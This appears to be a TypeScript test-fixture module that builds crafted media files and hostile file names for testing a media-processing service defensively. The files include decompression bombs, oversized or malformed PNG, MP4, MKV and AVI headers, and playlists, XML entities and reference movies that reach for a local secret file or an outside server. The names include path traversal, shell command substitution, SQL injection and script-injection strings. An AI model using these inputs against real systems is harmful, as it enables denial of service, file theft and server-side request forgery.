/** Files made to harm: each says more than it holds, holds itself, or names something else. */
import { deflateSync, gzipSync } from 'node:zlib';
import crc32 from 'crc-32';

export interface Crafted {
  name: string;
  bytes: Uint8Array;
}

const text = (value: string) => new TextEncoder().encode(value);
const join = (...parts: readonly Uint8Array[]) => new Uint8Array(Buffer.concat(parts));

function u32(...values: number[]): Uint8Array {
  const bytes = Buffer.alloc(values.length * 4);
  for (const [i, value] of values.entries()) bytes.writeUInt32BE(value >>> 0, i * 4);
  return bytes;
}

function chunk(type: string, data: Uint8Array): Uint8Array {
  const body = join(text(type), data);
  return join(u32(data.length), body, u32(crc32.buf(body)));
}

const pngHead = Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a);
const ihdr = (width: number, height: number) =>
  chunk('IHDR', join(u32(width, height), Uint8Array.of(8, 0, 0, 0, 0)));

/** A grey PNG that says one size and holds rows of zeros that compress a thousandfold. */
export function png(
  width: number,
  height: number,
  rows: number,
  more: Uint8Array = new Uint8Array(),
): Uint8Array {
  const data = deflateSync(new Uint8Array((width + 1) * rows));
  return join(pngHead, ihdr(width, height), more, chunk('IDAT', data), chunk('IEND', new Uint8Array()));
}

/** A box of an ISO media file. */
export function box(type: string, ...content: readonly Uint8Array[]): Uint8Array {
  const body = join(...content);
  return join(u32(body.length + 8), text(type), body);
}

const ftyp = box('ftyp', text('isom'), u32(512), text('isomiso2mp41'));

function nestedBoxes(depth: number): Uint8Array {
  // Built from the inside; each box is 8 bytes around the last.
  const bytes = Buffer.alloc(depth * 8);
  for (let i = 0; i < depth; i++) {
    bytes.writeUInt32BE((depth - i) * 8, i * 8);
    bytes.write(i === 0 ? 'moov' : 'trak', i * 8 + 4, 'latin1');
  }
  return join(ftyp, bytes);
}

/** One video track whose tables speak of `frames` frames of one byte, and whose clock says `duration`. */
function movie(
  frames: number,
  duration: number,
  width: number,
  height: number,
  file = new Uint8Array(),
): Uint8Array {
  const matrix = u32(0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000);
  const mvhd = box(
    'mvhd',
    u32(0, 0, 0, 1, duration, 0x10000, 0x01000000, 0, 0),
    matrix,
    u32(0, 0, 0, 0, 0, 0, 2),
  );
  const tkhd = box('tkhd', u32(3, 0, 0, 1, 0, duration, 0, 0, 0, 0), matrix, u32(width << 16, height << 16));
  const mdhd = box('mdhd', u32(0, 0, 0, 1, duration, 0x55c40000));
  const hdlr = box('hdlr', u32(0, 0), text('vide'), u32(0, 0, 0), Uint8Array.of(0));
  const sample = join(
    ...[u32(0, 1, 0, 0, 0, 0), u32((width << 16) | (height & 0xffff)), u32(0x480000, 0x480000, 0)],
    ...[Uint8Array.of(0, 1), new Uint8Array(32), Uint8Array.of(0, 24, 0xff, 0xff)],
  );
  const dref = box('dref', u32(0, 1), file.length > 0 ? box('url ', u32(0), file) : box('url ', u32(1)));
  const stbl = box(
    'stbl',
    box('stsd', u32(0, 1), box('mp4v', sample)),
    box('stts', u32(0, 1, frames, 1)),
    box('stsc', u32(0, 1, 1, frames, 1)),
    box('stsz', u32(0, 1, frames)),
    box('stco', u32(0, 1, 48)),
  );
  const minf = box('minf', box('vmhd', u32(1, 0, 0)), box('dinf', dref), stbl);
  return join(
    ftyp,
    box('moov', mvhd, box('trak', tkhd, box('mdia', mdhd, hdlr, minf))),
    box('mdat', new Uint8Array(64)),
  );
}

/** EBML elements in each other, as deep as asked, each of unknown size. */
function nestedEbml(depth: number): Uint8Array {
  const head = Buffer.from(
    '1a45dfa39f4286810142f7810142f2810442f381084282847765626d42878104428581021853806701ffffffffffffff',
    'hex',
  );
  const master = Buffer.from('1549a96601ffffffffffffff', 'hex');
  return join(head, ...Array.from({ length: depth }, () => master));
}

function jpeg(width: number, height: number): Uint8Array {
  return join(
    Uint8Array.of(
      0xff,
      0xd8,
      0xff,
      0xc0,
      0,
      11,
      8,
      height >> 8,
      height & 255,
      width >> 8,
      width & 255,
      1,
      1,
      0x11,
      0,
    ),
    Uint8Array.of(0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0, 0xff, 0xd9),
  );
}

function gif(width: number, height: number, frames: number): Uint8Array {
  const le = (value: number) => [value & 255, value >> 8];
  const frame = Uint8Array.of(0x2c, 0, 0, 0, 0, ...le(width), ...le(height), 0, 2, 2, 0x44, 1, 0);
  return join(
    text('GIF89a'),
    Uint8Array.of(...le(width), ...le(height), 0x80, 0, 0, 0, 0, 0, 255, 255, 255),
    ...Array.from({ length: frames }, () => frame),
    Uint8Array.of(0x3b),
  );
}

function riff(type: string, ...content: readonly Uint8Array[]): Uint8Array {
  const size = Buffer.alloc(4);
  size.writeUInt32LE(0xfffffff0);
  return join(text('RIFF'), size, text(type), ...content);
}

/** An AVI header that speaks of four billion frames of 65535x65535. */
function avi(): Uint8Array {
  const header = Buffer.alloc(56, 0xff);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(56);
  return riff('AVI ', text('LIST'), Buffer.from([0xff, 0xff, 0xff, 0x7f]), text('hdrlavih'), size, header);
}

/** The names of {@link craftedMedia}, in its order: making the files takes a while, and tests are named before. */
export const craftedNames: readonly string[] = [
  'png of a hundred thousand pixels square.png',
  'png of four billion pixels.png',
  'png bomb.png',
  'png with a text of half a gigabyte.png',
  'gzip bomb.png',
  'jpeg of four billion pixels.jpg',
  'gif of four billion pixels.gif',
  'gif of many frames.gif',
  'billions of frames.mp4',
  'a billion frames.mp4',
  'a century.mp4',
  'large frames.mp4',
  'no size.mp4',
  'nested boxes.mp4',
  'many empty boxes.mp4',
  'a box of size zero.mp4',
  'a box larger than any file.mp4',
  'frames in another file.mp4',
  'nested elements.mkv',
  'billions of frames.avi',
  'webp of no size.webp',
  'playlist.m3u8',
  'playlist of itself.m3u8',
  'concat.mp4',
  'dash.mpd',
  'picture that asks.svg',
  'session.sdp',
  'quicktime link.mov',
  'reference movie.mov',
  'pattern %03d.jpg',
  'zeros.mp4',
  'one byte.mp4',
];

/** @param secret path of a file that none of them may reach. @param address of a server that nobody may ask */
export function craftedMedia(secret: string, address: string): Crafted[] {
  const list = (name: string, value: string): Crafted => ({ name, bytes: text(value) });
  return [
    { name: 'png of a hundred thousand pixels square.png', bytes: png(100_000, 100_000, 4) },
    { name: 'png of four billion pixels.png', bytes: png(0x7fffffff, 2, 0) },
    { name: 'png bomb.png', bytes: png(30_000, 30_000, 3_000) },
    {
      name: 'png with a text of half a gigabyte.png',
      bytes: png(64, 64, 64, chunk('zTXt', join(text('Comment\0\0'), deflateSync(new Uint8Array(2 ** 25))))),
    },
    { name: 'gzip bomb.png', bytes: gzipSync(new Uint8Array(2 ** 25)) },
    { name: 'jpeg of four billion pixels.jpg', bytes: jpeg(65_500, 65_500) },
    { name: 'gif of four billion pixels.gif', bytes: gif(65_535, 65_535, 3) },
    { name: 'gif of many frames.gif', bytes: gif(16, 16, 50_000) },
    { name: 'billions of frames.mp4', bytes: movie(0xffffffff, 1000, 64, 64) },
    { name: 'a billion frames.mp4', bytes: movie(1_000_000_000, 1000, 64, 64) },
    { name: 'a century.mp4', bytes: movie(10, 0xffffffff, 64, 64) },
    { name: 'large frames.mp4', bytes: movie(10, 10, 65_535, 65_535) },
    { name: 'no size.mp4', bytes: movie(10, 10, 0, 0) },
    { name: 'nested boxes.mp4', bytes: nestedBoxes(100_000) },
    { name: 'many empty boxes.mp4', bytes: join(ftyp, ...Array.from({ length: 50_000 }, () => box('free'))) },
    { name: 'a box of size zero.mp4', bytes: join(ftyp, u32(0), text('moov'), u32(0), text('trak')) },
    {
      name: 'a box larger than any file.mp4',
      bytes: join(ftyp, u32(1), text('moov'), u32(0xffffffff, 0xffffffff)),
    },
    { name: 'frames in another file.mp4', bytes: movie(10, 10, 64, 64, text(`file://${secret}\0`)) },
    { name: 'nested elements.mkv', bytes: nestedEbml(20_000) },
    { name: 'billions of frames.avi', bytes: avi() },
    { name: 'webp of no size.webp', bytes: riff('WEBP', text('VP8X'), Buffer.alloc(64, 0xff)) },
    list(
      'playlist.m3u8',
      `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile://${secret}\n#EXTINF:1,\n${address}/a.ts\n#EXT-X-ENDLIST\n`,
    ),
    list('playlist of itself.m3u8', '#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nplaylist of itself.m3u8\n'),
    list('concat.mp4', `ffconcat version 1.0\nfile '${secret}'\nfile '${address}/a.mp4'\n`),
    list(
      'dash.mpd',
      `<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://${secret}">]><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"><Period><AdaptationSet><Representation id="1" bandwidth="1"><BaseURL>${address}/&x;</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    ),
    list(
      'picture that asks.svg',
      `<svg xmlns="http://www.w3.org/2000/svg"><image href="${address}/x.png"/><text>&x;</text></svg>`,
    ),
    list('session.sdp', `v=0\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n`),
    list(
      'quicktime link.mov',
      `<?xml version="1.0"?><?quicktime type="application/x-quicktime-media-link"?><embed src="${address}/x.mov"/>`,
    ),
    {
      name: 'reference movie.mov',
      bytes: join(
        ftyp,
        box(
          'moov',
          box(
            'rmra',
            box('rmda', box('rdrf', u32(0), text('url '), u32(address.length + 1), text(`${address}\0`))),
          ),
        ),
      ),
    },
    list('pattern %03d.jpg', 'no picture'),
    { name: 'zeros.mp4', bytes: new Uint8Array(100_000) },
    { name: 'one byte.mp4', bytes: Uint8Array.of(0) },
  ];
}

/** Names that a careless program would follow, run or print. */
export const hostileNames: readonly string[] = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system.ini',
  '/etc/passwd',
  'C:\\boot.ini',
  'concat:a.mp4|b.mp4',
  'http://127.0.0.1/x.mp4',
  '-vf.mp4',
  '--out=x.mp4',
  '$(touch x).mp4',
  '`id`.mp4',
  "a';drop table clip;--.mp4",
  '<img src=x onerror=alert(1)>.mp4',
  '\u001b[2J\u001b]0;owned\u0007.mp4',
  '\u009b31mred.mp4',
  'gpj.\u202e4pm.exe',
  '%2e%2e%2f.mp4',
  '__proto__',
  'constructor',
  'nul\u0000byte.mp4',
  '\ud800.mp4',
  'a'.repeat(5000),
  ' ',
  '.',
  '..',
];
